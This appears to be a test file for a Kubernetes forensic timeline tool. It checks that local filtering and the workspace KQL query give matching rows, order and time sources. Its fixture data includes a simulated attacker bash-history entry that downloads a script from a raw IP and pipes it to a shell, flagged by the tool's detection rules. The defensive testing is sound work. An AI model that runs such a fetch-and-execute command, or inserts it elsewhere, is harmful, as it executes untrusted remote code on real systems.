// The timeline's filter semantics as a user meets them (free text in Details, a container that
// keeps its pod's pod-level rows, hide baseline, starred rows, workloads, time sources), checked
// on the local engine and on the KQL the workspace runs (evaluated by the emulator's engine) over
// the same rows: both must give the same rows in the same order.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { buildTimelineQuery } from '../../../src/core/timeline/kql.js';
import { emptyFilter, type TimelineFilter } from '../../../src/core/timeline/filter.js';
import { timelineFromRows } from '../../../src/core/timeline/local.js';
import { matchesFilter, toTimelineRow } from '../../../src/core/timeline/rows.js';
import { TABLES, clusterEvents, commandHistory, containerLogs, podInventory, suspiciousPods, type TableName } from '../../../src/core/schema/tables.js';
import type { TimelineRow } from '../../../src/core/schema/timeline.js';
import { evaluate, KDate, type Value } from '../../emulators/azure/kqlEval.js';

const T0 = '2026-03-01T10:00:00.0000000Z';
const at = (s: number) => `2026-03-01T10:00:${String(s).padStart(2, '0')}.0000000Z`;
const COLLECTED = '2026-03-01T11:00:00.0000000Z';

/** Source rows by table: every column present, as the derivation writes them. */
function rows(): Map<TableName, Record<string, unknown>[]> {
  let n = 0;
  const base = (table: TableName, over: Record<string, unknown>) => {
    const def = TABLES.find((t) => t.name === table)!;
    const row: Record<string, unknown> = {};
    for (const c of def.columns) row[c.name] = c.type === 'string' ? '' : null;
    return { ...row, TimeGenerated: COLLECTED, RecordId: `s/${table}/${String(++n).padStart(9, '0')}`, SnapshotId: 's', Cluster: 'aks', ...over };
  };
  const pod = { Namespace: 'prod', PodName: 'web-1' };
  return new Map<TableName, Record<string, unknown>[]>([
    [containerLogs.name, [
      base(containerLogs.name, { ...pod, ContainerName: 'nginx', EventTime: at(5), EventType: 'LogLine', Summary: 'GET / 200', Message: 'GET / 200', Image: 'registry.example/nginx:1.25', TimestampParsed: true }),
      base(containerLogs.name, { ...pod, ContainerName: 'nginx', EventTime: at(5), EventType: 'LogLine', Summary: '  at Handler.run', Message: '  at Handler.run', TimestampParsed: false }),
      base(containerLogs.name, { ...pod, ContainerName: 'sidecar', EventTime: COLLECTED, EventType: 'LogLine', Summary: 'no timestamp at all', Message: 'no timestamp at all', TimestampParsed: false }),
    ]],
    [clusterEvents.name, [
      base(clusterEvents.name, { ...pod, ContainerName: '', EventTime: at(1), EventType: 'Scheduled', Summary: 'Pod prod/web-1 scheduled', Reason: 'Scheduled', Message: 'Successfully assigned prod/web-1 to node-7' }),
    ]],
    [commandHistory.name, [
      base(commandHistory.name, { ...pod, ContainerName: 'nginx', EventTime: at(7), EventType: 'HistoryCommand', Summary: 'root@nginx (bash): curl', Command: 'curl -s http://203.0.113.7/x.sh | sh', TimeSource: 'bash-timestamp' }),
      base(commandHistory.name, { ...pod, ContainerName: 'nginx', EventTime: at(9), EventType: 'HistoryCommand', Summary: 'root@nginx (bash): id', Command: 'id', TimeSource: 'file-mtime' }),
      base(commandHistory.name, { ...pod, ContainerName: 'sidecar', EventTime: COLLECTED, EventType: 'HistoryStatus', Summary: 'History not-found', CollectionStatus: 'not-found' }),
    ]],
    [podInventory.name, [
      base(podInventory.name, { ...pod, EventTime: T0, EventType: 'PodCreated', Summary: 'Pod prod/web-1 created', Containers: [{ name: 'nginx', image: 'registry.example/nginx:1.25', securityContext: { privileged: true } }] }),
    ]],
    [suspiciousPods.name, [
      base(suspiciousPods.name, { ...pod, ContainerName: 'nginx', EventTime: T0, EventType: 'Finding', Severity: 'high', Summary: 'HIGH Privileged container', RuleId: 'POD-PRIVILEGED', ResourceKind: 'Pod', ResourceName: 'web-1', FieldPath: 'spec.containers[0].securityContext.privileged', Tactics: ['Privilege escalation'], Baseline: false }),
      base(suspiciousPods.name, { ...pod, ContainerName: 'nginx', EventTime: at(7), EventType: 'Finding', Severity: 'high', Summary: 'HIGH Download from a raw IP', RuleId: 'CONTENT-RAW-IP-DOWNLOAD', ResourceKind: 'Pod', ResourceName: 'web-1', FieldPath: 'history:/root/.bash_history#1', FieldValue: '203.0.113.7', Baseline: false }),
      base(suspiciousPods.name, { Namespace: 'prod', PodName: '', ContainerName: 'nginx', EventTime: T0, EventType: 'Finding', Severity: 'medium', Summary: 'MEDIUM Host path mount', RuleId: 'POD-HOSTPATH', ResourceKind: 'Deployment', ResourceName: 'web', FieldPath: 'spec.template.spec.volumes[0]', Baseline: false }),
      base(suspiciousPods.name, { Namespace: 'kube-system', PodName: 'kube-proxy-x', ContainerName: 'kube-proxy', EventTime: T0, EventType: 'Finding', Severity: 'high', Summary: 'HIGH Privileged container [baseline]', RuleId: 'POD-PRIVILEGED', ResourceKind: 'Pod', ResourceName: 'kube-proxy-x', FieldPath: 'spec.containers[0].securityContext.privileged', Baseline: true }),
    ]],
  ]);
}

const local = (f: TimelineFilter): TimelineRow[] => {
  const all = [...rows()].flatMap(([table, list]) => list.map((r) => toTimelineRow(table, r)));
  return timelineFromRows(all).query(f, { offset: 0, limit: 1000 }).rows;
};

/** The ids and time sources the workspace query returns over the same rows. */
function workspace(f: TimelineFilter): { id: string; timeSource: string }[] {
  const data = rows();
  const asValue = (v: unknown, type: string): Value => (type === 'datetime' && typeof v === 'string' ? new KDate(v) : (v as Value));
  const res = evaluate(buildTimelineQuery({ filter: f }), {
    table: (name) => {
      const def = TABLES.find((t) => t.name === name);
      if (!def) return undefined;
      const list = data.get(def.name) ?? [];
      return { columns: def.columns.map((c) => ({ name: c.name, type: c.type })), rows: list.map((r) => Object.fromEntries(def.columns.map((c) => [c.name, asValue(r[c.name], c.type)]))) };
    },
  });
  return res.rows.map((r) => ({ id: String(r.RecordId), timeSource: String(r.TimeSource) }));
}

function same(f: TimelineFilter): string[] {
  const got = local(f);
  const all = [...rows()].flatMap(([table, list]) => list.map((r) => toTimelineRow(table, r)));
  assert.deepEqual(got.map((r) => r.RecordId).sort(), all.filter((r) => matchesFilter(r, f)).map((r) => r.RecordId).sort(), 'the engine answers as matchesFilter');
  assert.deepEqual(workspace(f), got.map((r) => ({ id: r.RecordId, timeSource: r.TimeSource })), 'the workspace query gives the same rows, order and time sources');
  return got.map((r) => r.Summary);
}

test('free text finds a rule id, an IOC and a value inside dynamic Details, case-insensitively', () => {
  assert.deepEqual(same({ ...emptyFilter(), text: 'pod-privileged' }), ['HIGH Privileged container', 'HIGH Privileged container [baseline]']);
  assert.deepEqual(same({ ...emptyFilter(), text: '203.0.113.7' }), ['root@nginx (bash): curl', 'HIGH Download from a raw IP']);
  assert.deepEqual(same({ ...emptyFilter(), text: 'PRIVILEGE ESCALATION' }), ['HIGH Privileged container'], 'a value in a dynamic column (Tactics)');
  assert.deepEqual(same({ ...emptyFilter(), text: 'node-7' }), ['Pod prod/web-1 scheduled'], "an event's Message");
  assert.deepEqual(same({ ...emptyFilter(), text: 'nginx:1.25' }), ['Pod prod/web-1 created', 'GET / 200'], 'a log row’s Image and the inventory’s containers');
});

test('a container filter keeps its pod’s pod-level rows (Scheduled, pod findings), not its sibling container’s', () => {
  const got = same({ ...emptyFilter(), containers: [{ namespace: 'prod', pod: 'web-1', container: 'sidecar' }] });
  assert.deepEqual(got, ['Pod prod/web-1 created', 'Pod prod/web-1 scheduled', 'History not-found', 'no timestamp at all']);
  const pod = same({ ...emptyFilter(), pods: [{ namespace: 'prod', pod: 'web-1' }] });
  assert.ok(pod.includes('Pod prod/web-1 scheduled') && pod.includes('GET / 200') && pod.includes('History not-found'));
  assert.ok(!pod.includes('MEDIUM Host path mount'), 'a template finding has no pod');
});

test('hide baseline drops baseline findings only; starred rows and workloads select exactly theirs', () => {
  const high = same({ ...emptyFilter(), severities: ['high'], hideBaseline: true });
  assert.deepEqual(high, ['HIGH Privileged container', 'HIGH Download from a raw IP']);
  const ids = [...rows().get(commandHistory.name)!.map((r) => String(r.RecordId)).slice(0, 1), 'no-such-id'];
  assert.deepEqual(same({ ...emptyFilter(), recordIds: ids }), ['root@nginx (bash): curl']);
  assert.deepEqual(same({ ...emptyFilter(), workloads: [{ namespace: 'prod', kind: 'Deployment', name: 'web' }] }), ['MEDIUM Host path mount']);
});

test('every row says how its time was obtained, and the workspace derives the same', () => {
  const bySummary = new Map(same(emptyFilter()).map((s, i) => [s, local(emptyFilter())[i]!.TimeSource]));
  assert.equal(bySummary.get('GET / 200'), 'event');
  assert.equal(bySummary.get('  at Handler.run'), 'previous-line');
  assert.equal(bySummary.get('no timestamp at all'), 'collection');
  assert.equal(bySummary.get('root@nginx (bash): curl'), 'event');
  assert.equal(bySummary.get('root@nginx (bash): id'), 'file-mtime');
  assert.equal(bySummary.get('History not-found'), 'collection');
  assert.equal(bySummary.get('HIGH Privileged container'), 'creation');
  assert.equal(bySummary.get('HIGH Download from a raw IP'), 'event', 'a content finding is dated by the entry it was found in');
  assert.equal(bySummary.get('Pod prod/web-1 created'), 'event');
});

test('facets list real containers only, workloads as their own kind, and the state rows are counted apart on the axis', () => {
  const all = [...rows()].flatMap(([table, list]) => list.map((r) => toTimelineRow(table, r)));
  const tl = timelineFromRows(all);
  const f = tl.facets();
  assert.ok(f.containers.every((c) => c.pod !== ''), 'no template entry such as prod//nginx');
  assert.deepEqual(f.workloads, [{ namespace: 'prod', kind: 'Deployment', name: 'web', count: 1 }]);
  assert.deepEqual(f.defaultRange, { from: T0, to: at(9) }, 'without a manifest: the span of the event rows (rows dated at collection are state)');
  const h = tl.histogram(emptyFilter(), 4);
  const findings = h.series.find((s) => s.table === suspiciousPods.name)!;
  assert.equal(findings.stateCounts.reduce((a, b) => a + b, 0), 3, 'the three findings dated by creation');
  assert.equal(findings.counts.reduce((a, b) => a + b, 0), 4);
});
